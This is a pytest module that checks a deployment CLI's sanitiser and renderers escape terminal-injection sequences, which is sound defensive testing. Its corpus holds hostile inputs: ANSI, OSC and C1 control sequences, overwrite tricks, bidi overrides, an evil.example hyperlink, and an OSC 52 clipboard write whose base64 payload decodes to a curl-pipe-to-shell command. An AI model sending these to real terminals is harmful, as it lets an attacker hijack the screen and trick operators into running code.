"""Text from hosts and requests on the operator's terminal (cli.terminal): a corpus of escape
sequences an attacker would send, through the function and through every renderer that prints
such text. No server: the same renderers print the API's answers in tests/test_cli_host_text.py.
"""

import json
import unicodedata

import pytest

from cli import jobs
from cli.admin_http import AdminApi, print_json, print_table
from cli.rollout_view import render
from cli.terminal import terminal_safe

# What a host's output or a request's text may carry to take over a terminal.
CORPUS = {
    "CSI clear screen and home": "\x1b[2J\x1b[Hall good",
    "CSI cursor up, erase line": "done\x1b[1A\x1b[2K",
    "CSI colours": "\x1b[31;1mred\x1b[0m",
    "CSI private mode (hide cursor)": "\x1b[?25l",
    "OSC 0 window title, BEL": "\x1b]0;root@prod\x07",
    "OSC 2 window title, ST": "\x1b]2;pwned\x1b\\",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\x07",
    "OSC 8 hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "DCS": "\x1bPq#0;2;0;0;0\x1b\\",
    "C1 CSI": "\x9b2J",
    "C1 OSC and ST": "\x9d0;title\x9c",
    "C1 NEL": "one\x85two",
    "bare ESC": "\x1b",
    "ESC c (full reset)": "\x1bc",
    "BEL": "ding\x07",
    "backspace over text": "secret\x08\x08\x08\x08\x08\x08public",
    "CR overwrite": "FAILED: disk full\rSUCCEEDED        ",
    "vertical tab, form feed": "a\x0bb\x0cc",
    "DEL": "a\x7fb",
    "NUL": "a\x00b",
    "bidi override (RLO)": "invoice\u202etxt.exe",
    "bidi embedding and pop": "\u202aabc\u202c",
    "bidi isolates": "\u2066abc\u2069\u2067def\u2069\u2068ghi\u2069",
    "RLM and ALM": "a\u200fb\u061cc",
    "zero width space and joiner": "ro\u200bot\u200d",
    "BOM": "\ufeffhello",
    "line and paragraph separators": "a\u2028b\u2029c",
    "tag characters": "a\U000e0041\U000e007f",
}
ACTED_ON = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def inert(text: str, *, allowed: str = "") -> bool:
    """Nothing a terminal acts on, but what the caller allows (newlines of multi-line text)."""
    return all(c in allowed or unicodedata.category(c) not in ACTED_ON for c in text)


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
def test_every_sequence_is_printed_inert_and_visible(text: str) -> None:
    safe = terminal_safe(text)
    assert inert(safe)
    assert "\\x" in safe or "\\u" in safe or "\\U" in safe  # the operator sees it was there
    for char in text:
        if unicodedata.category(char) not in ACTED_ON:
            assert char in safe  # the printable text is all still there


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
def test_multiline_text_keeps_only_newlines_and_tabs(text: str) -> None:
    safe = terminal_safe(f"line one\t{text}\nline two\r\n", multiline=True)
    assert inert(safe, allowed="\n\t")
    assert safe.startswith("line one\t")
    assert safe.endswith("\nline two\n")  # CRLF is a line end, not a carriage return


def test_plain_text_and_unicode_pass_as_they_are() -> None:
    for text in ("rolled back at smoke: exit status 3", "déploiement réussi ✓", "日本語", "a b"):
        assert terminal_safe(text) == text
    assert terminal_safe("tab\there") == "tab\\x09here"  # one line: even a tab is shown
    assert terminal_safe("two\nlines") == "two\\x0alines"
    assert terminal_safe("lone\rcr", multiline=True) == "lone\\x0dcr"


def test_the_escapes_read_as_what_was_sent() -> None:
    assert terminal_safe("\x1b[2J") == "\\x1b[2J"
    assert terminal_safe("\u202e") == "\\u202e"
    assert terminal_safe("\x9b") == "\\x9b"
    assert terminal_safe("\U000e0041") == "\\U000e0041"


EVIL = "".join(CORPUS.values())


def test_tables_print_cells_inert(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"id": "j1", "message": EVIL, "step": "smoke\x1b]0;x\x07"}]
    print_table(rows, [("JOB", "id"), ("STEP", "step"), ("MESSAGE", "message")])
    out = capsys.readouterr().out
    assert inert(out, allowed="\n")
    assert len(out.splitlines()) == 2  # a header and one row, whatever the message holds


def test_the_rollout_view_prints_a_pause_reason_inert(capsys: pytest.CaptureFixture[str]) -> None:
    rollout = {
        "id": "r1",
        "version": "2.0.0",
        "channel": "stable",
        "status": "paused",
        "currentBatch": 1,
        "totalBatches": 1,
        "batches": [{"number": 1, "jobs": []}],
        "pausedReason": "ok\n  batch   2  [####################]  10/10 succeeded" + EVIL,
        "failures": [
            {"instanceId": "web-1", "status": "failed", "step": "smoke\x1b[2J", "jobId": "j\x07"}
        ],
    }
    view = render(rollout)
    assert inert(view, allowed="\n")
    # The reason's newline cannot add a line that looks like the rollout's own.
    assert len(view.splitlines()) == 4


def test_a_job_and_its_step_output_print_inert(capsys: pytest.CaptureFixture[str]) -> None:
    job = {
        "id": "j1",
        "rolloutId": "r1",
        "instanceId": "web-1",
        "batch": 1,
        "attempt": 1,
        "status": "failed",
        "step": "smoke",
        "deadline": "2026-01-01T00:00:00Z",
        "timeline": [
            {"step": "smoke", "outcome": "failed", "startedAt": None, "endedAt": None}
            | {"message": "smoke failed\n" + EVIL + "\nlast line\r\n"},
        ],
    }
    jobs.show(job)
    out = capsys.readouterr().out
    assert inert(out, allowed="\n")
    assert "  smoke failed\n" in out and "  last line\n" in out


def test_json_output_escapes_everything(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"message": EVIL, "pausedReason": "\u202e"})
    out = capsys.readouterr().out
    assert inert(out, allowed="\n")
    assert json.loads(out)["message"] == EVIL  # and a program reads back exactly what was sent


def test_a_refusal_prints_the_apis_detail_inert(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONTROL_PLANE_ADMIN_TOKEN", "t" * 32)
    api = AdminApi("rollout rollouts pause")
    with pytest.raises(SystemExit) as exited:
        api._refused(f"409 Conflict: rollout r1 is paused: {EVIL}")
    assert exited.value.code == 1
    err = capsys.readouterr().err
    assert inert(err, allowed="\n")
    assert len(err.splitlines()) == 1
